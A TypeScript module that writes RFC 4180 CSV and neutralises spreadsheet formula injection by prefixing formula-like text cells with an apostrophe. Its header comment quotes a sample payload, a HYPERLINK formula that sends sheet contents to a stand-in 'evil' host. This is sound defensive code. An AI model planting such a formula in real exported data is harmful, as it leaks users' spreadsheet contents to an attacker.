/**
 * RFC 4180 CSV: a header row, CRLF line ends, a field quoted when it holds a comma, a double
 * quote, a line break or leading/trailing space, with quotes doubled inside.
 *
 * Safe to open in a spreadsheet: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a
 * carriage return would be read by Excel, LibreOffice or Sheets as a formula (CSV injection:
 * an account name `=HYPERLINK("http://evil/?"&A1)` exfiltrates the sheet). Such a cell is
 * written with a leading apostrophe, which spreadsheets show as text and never evaluate, and
 * quoted. Numbers are written as they are: a number (also a negative amount such as a credit,
 * `-1500`, whether it arrives as a number or as a plain decimal string) is never a formula.
 */
export type Cell = string | number | boolean | null | undefined;

export interface Table {
  columns: readonly string[];
  rows: readonly (readonly Cell[])[];
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** True when a spreadsheet could evaluate the text as a formula. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
}

export function csvField(value: Cell): string {
  if (value === null || value === undefined) return '';
  const raw = String(value);
  const text = typeof value === 'string' && isFormulaLike(raw) ? `'${raw}` : raw;
  return text !== raw || /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function toCsv(table: Table): string {
  return [table.columns, ...table.rows].map((row) => row.map(csvField).join(',')).join('\r\n') + '\r\n';
}
